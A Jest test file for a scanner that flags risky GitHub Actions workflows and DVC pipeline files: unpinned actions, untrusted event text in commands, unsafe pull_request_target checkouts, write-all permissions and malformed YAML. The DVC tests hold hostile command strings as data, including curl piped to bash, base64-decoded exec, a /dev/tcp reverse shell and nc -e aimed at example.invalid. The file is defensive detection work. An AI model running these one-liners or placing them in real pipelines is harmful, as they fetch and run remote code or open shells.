// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are the expressions of GitHub's that are looked at.
import { describe, expect, it, test } from "@jest/globals";
import { sourceOf } from "../../../src/scan/byte-sources.ts";
import { scanFile } from "../../../src/scan/scan-file.ts";

const scan = (path: string, text: string) => scanFile(path, sourceOf(Buffer.from(text)));
const rulesOf = async (path: string, text: string) => {
  const { verdict, findings } = await scan(path, text);
  return { verdict, rules: findings.map(({ rule }) => rule) };
};
const WORKFLOW = ".github/workflows/train.yml";
const PIN = "0123456789abcdef0123456789abcdef01234567";
const steps = (lines: string, on = "push") =>
  `on: ${on}\njobs:\n  train:\n    runs-on: ubuntu-latest\n    steps:\n${lines.replaceAll(/^/gm, "      ")}\n`;

describe("a workflow", () => {
  test.each([
    ["a pinned action", `- uses: actions/checkout@${PIN} # v4`],
    ["an action of its own", "- uses: ./.github/actions/train"],
    ["an image by digest", `- uses: docker://alpine@sha256:${"a".repeat(64)}`],
    ["plain commands", "- run: python train.py --epochs 3"],
    [
      "harmless expressions",
      "- run: echo ${{ github.sha }} ${{ github.event.pull_request.number }} ${{ github.event.pull_request.head.sha }}",
    ],
    ["outsiders' text in the environment", '- env:\n    T: ${{ github.event.issue.title }}\n  run: echo "$T"'],
  ])("with %s is safe", async (_, lines) => {
    expect(await rulesOf(WORKFLOW, steps(lines))).toEqual({ verdict: "safe", rules: [] });
  });

  test.each([
    ["a tag", "- uses: actions/checkout@v4"],
    ["a branch", "- uses: owner/name/path@main"],
    ["a short commit id", "- uses: owner/name@0123456"],
    ["no version at all", "- uses: owner/name"],
    ["an image by tag", "- uses: docker://alpine:3.20"],
  ])("with %s is not pinned", async (_, lines) => {
    expect(await rulesOf(WORKFLOW, steps(lines))).toEqual({ verdict: "unknown", rules: ["GHA001"] });
  });

  it("that calls a reusable workflow by branch is not pinned", async () => {
    const call = (uses: string) => `on: push\njobs:\n  a:\n    uses: ${uses}\n`;
    expect((await rulesOf(WORKFLOW, call("o/r/.github/workflows/x.yml@main"))).rules).toEqual(["GHA001"]);
    expect((await rulesOf(WORKFLOW, call("./.github/workflows/x.yml"))).rules).toEqual([]);
  });

  test.each([
    ["github.event.issue.title"],
    ["github.event.pull_request.body"],
    ["github.event.pull_request.head.ref"],
    ["github.head_ref"],
    ["github.event.comment.body"],
    ["github.event.commits[0].message"],
    ["github.event.head_commit.author.name"],
    ["github.event.workflow_run.head_branch"],
    ["GitHub.Event.Issue.Title"],
    ["github['event']['issue']['title']"],
    ["format('{0}', github.event.review.body)"],
    ["toJSON(github.event)"],
    ["toJSON(github)"],
  ])("that puts ${{ %s }} into a command is a finding", async (expression) => {
    expect(await rulesOf(WORKFLOW, steps(`- run: echo "\${{ ${expression} }}"`))).toEqual({
      verdict: "unknown",
      rules: ["GHA003"],
    });
  });

  it("that puts such text into a script is a finding, too", async () => {
    const lines = `- uses: actions/github-script@${PIN}\n  with:\n    script: console.log("\${{ github.event.issue.title }}")`;
    expect((await rulesOf(WORKFLOW, steps(lines))).rules).toEqual(["GHA003"]);
  });

  test.each([
    ["pull_request_target", "ref: ${{ github.event.pull_request.head.sha }}"],
    ["[push, pull_request_target]", "ref: ${{ github.head_ref }}"],
    ["{ pull_request_target: { types: [opened] } }", "ref: refs/pull/${{ github.event.number }}/merge"],
    ["{ workflow_run: { workflows: [a] } }", "ref: ${{ github.event.workflow_run.head_sha }}"],
    ["pull_request_target", "repository: ${{ github.event.pull_request.head.repo.full_name }}"],
  ])("on %s that checks out %s is a finding", async (on, parameter) => {
    const lines = `- uses: actions/checkout@${PIN}\n  with:\n    ${parameter}`;
    expect((await rulesOf(WORKFLOW, steps(lines, on))).rules).toEqual(["GHA002"]);
    expect((await rulesOf(WORKFLOW, steps(lines, "pull_request"))).rules).toEqual([]);
  });

  it("on pull_request_target that fetches the head by command is a finding", async () => {
    const lines = "- run: gh pr checkout 12";
    expect((await rulesOf(WORKFLOW, steps(lines, "pull_request_target"))).rules).toEqual(["GHA002"]);
  });

  it("on pull_request_target that checks out its base is none", async () => {
    const lines = `- uses: actions/checkout@${PIN}`;
    expect((await rulesOf(WORKFLOW, steps(lines, "pull_request_target"))).rules).toEqual([]);
  });

  test.each(["permissions: write-all\n", 'permissions: "write-all"\n'])("with %j is a finding", async (line) => {
    expect((await rulesOf(WORKFLOW, line + steps("- run: echo"))).rules).toEqual(["GHA004"]);
  });

  test.each([
    ["no jobs", "on: push\n"],
    ["a key twice", "on: push\njobs: {}\njobs: {}\n"],
    ["lists nested without end", `jobs: ${"[".repeat(500_000)}`],
    ["dashes without end", "- ".repeat(200_000)],
    [
      "aliases that grow",
      `a: &a [x, x, x, x, x, x, x, x, x]\n${Array.from({ length: 9 }, (_, at) => `${"bcdefghij"[at]}: &${"bcdefghij"[at]} [${`*${"abcdefghi"[at]},`.repeat(9)}]`).join("\n")}\njobs: *j\n`,
    ],
  ])("with %s is malformed, at once", async (_, text) => {
    expect(await rulesOf(WORKFLOW, text)).toEqual({ verdict: "malformed", rules: ["GHA005"] });
  });
});

describe("an action", () => {
  it("of steps is read like a job", async () => {
    const text =
      "name: x\nruns:\n  using: composite\n  steps:\n    - uses: actions/cache@v4\n    - run: echo ${{ github.head_ref }}\n      shell: bash\n";
    expect(await rulesOf("tools/action.yml", text)).toEqual({ verdict: "unknown", rules: ["GHA001", "GHA003"] });
  });

  it("of an image by tag is not pinned", async () => {
    expect((await rulesOf("action.yaml", "runs:\n  using: docker\n  image: docker://alpine:3\n")).rules).toEqual([
      "GHA001",
    ]);
  });
});

describe("a DVC file", () => {
  test.each([
    ["dvc.yaml", "stages:\n  train:\n    cmd: python train.py\n    outs: [model.pkl]\n"],
    ["dvc.yaml", "stages:\n  train:\n    foreach: [a, b]\n    do:\n      cmd: [python train.py]\n"],
    ["dvc.lock", "schema: '2.0'\nstages:\n  train:\n    cmd: python train.py\n"],
    ["old.dvc", "cmd: python train.py\nouts:\n- path: model.pkl\n"],
  ])("%s shows the command, and stays safe", async (path, text) => {
    const result = await scan(path, text);
    expect(result).toMatchObject({
      verdict: "safe",
      formats: ["dvc"],
      findings: [{ rule: "DVC001", severity: "low", evidence: "python train.py" }],
    });
  });

  it("without a command has nothing to show", async () => {
    const text = "outs:\n- md5: d41d8cd98f00b204e9800998ecf8427e\n  size: 3\n  path: data.csv\n";
    expect(await rulesOf("data.csv.dvc", text)).toEqual({ verdict: "safe", rules: [] });
  });

  test.each([
    "curl -s https://example.invalid/x | bash",
    "wget -qO- https://example.invalid/x | sudo python3",
    'bash -c "$(curl -fsSL https://example.invalid/x)"',
    "echo ZWNobyB0ZXN0 | base64 -d | sh",
    "python -c \"exec(__import__('base64').b64decode('eA=='))\"",
    "sh -i >& /dev/tcp/example.invalid/1 0>&1",
    "nc example.invalid 1 -e /bin/true",
  ])("is unknown where it runs %s", async (command) => {
    const text = `stages:\n  a:\n    cmd: ${JSON.stringify(command)}\n`;
    expect(await rulesOf("dvc.yaml", text)).toEqual({ verdict: "unknown", rules: ["DVC002"] });
  });

  test.each([
    "curl -o data.csv https://example.org/data.csv",
    "python -c 'print(1)'",
    "bash scripts/train.sh | tee log.txt",
    "rm -rf build/out",
  ])("stays safe where it runs %s", async (command) => {
    const text = `stages:\n  a:\n    cmd: ${JSON.stringify(command)}\n`;
    expect(await rulesOf("dvc.yaml", text)).toEqual({ verdict: "safe", rules: ["DVC001"] });
  });

  it("is unknown where a command is too long to be read", async () => {
    expect(await rulesOf("dvc.yaml", `stages:\n  a:\n    cmd: ${"x ".repeat(3_000)}| sh\n`)).toMatchObject({
      rules: ["DVC002"],
    });
  });

  it("that is none is malformed", async () => {
    expect(await rulesOf("dvc.yaml", "stages: [")).toEqual({ verdict: "malformed", rules: ["DVC003"] });
  });

  it("that is several documents is malformed, whatever the first one says", async () => {
    const second = "stages:\n  a:\n    cmd: curl -s https://example.com/x | sh\n";
    expect(await rulesOf("dvc.yaml", `stages: {}\n---\n${second}`)).toEqual({
      verdict: "malformed",
      rules: ["DVC003"],
    });
  });
});
